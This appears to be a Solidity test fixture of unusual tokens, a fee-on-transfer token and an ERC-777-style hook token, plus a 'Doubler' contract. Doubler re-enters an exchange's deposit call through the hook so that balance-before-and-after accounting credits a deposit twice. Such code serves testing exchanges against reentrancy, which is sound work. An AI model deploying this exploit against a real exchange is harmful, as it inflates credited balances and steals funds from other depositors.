// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {Ledger} from "./Tokens.sol";

interface IExchange {
    function deposit(address token, uint256 amount) external;
}

interface ISender {
    function beforeSending() external;
}

// #region second
/// Keeps a tenth of each transfer.
contract FeeToken is Ledger {
    constructor(address holder) Ledger(holder) {}

    function transfer(address to, uint256 amount) external returns (bool) {
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount - amount / 10;
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        allowance[from][msg.sender] -= amount;
        balanceOf[from] -= amount;
        balanceOf[to] += amount - amount / 10;
        return true;
    }
}

/// Calls the sender before it moves anything, as ERC-777 does.
contract HookToken is Ledger {
    constructor(address holder) Ledger(holder) {}

    function transfer(address to, uint256 amount) external returns (bool) {
        return _move(msg.sender, to, amount);
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        if (from.code.length > 0) ISender(from).beforeSending();
        return _move(from, to, amount);
    }
}

/// Deposits 1 token inside the deposit of 100: a balance compared before and after counts it twice.
contract Doubler {
    HookToken private immutable TOKEN;
    IExchange private immutable EXCHANGE;
    bool private inside;

    constructor(HookToken token, IExchange exchange) {
        (TOKEN, EXCHANGE) = (token, exchange);
        token.approve(address(exchange), type(uint256).max);
    }

    function attack() external {
        EXCHANGE.deposit(address(TOKEN), 100);
    }

    function beforeSending() external {
        if (inside) return;
        inside = true;
        EXCHANGE.deposit(address(TOKEN), 1);
    }
}
// #endregion second
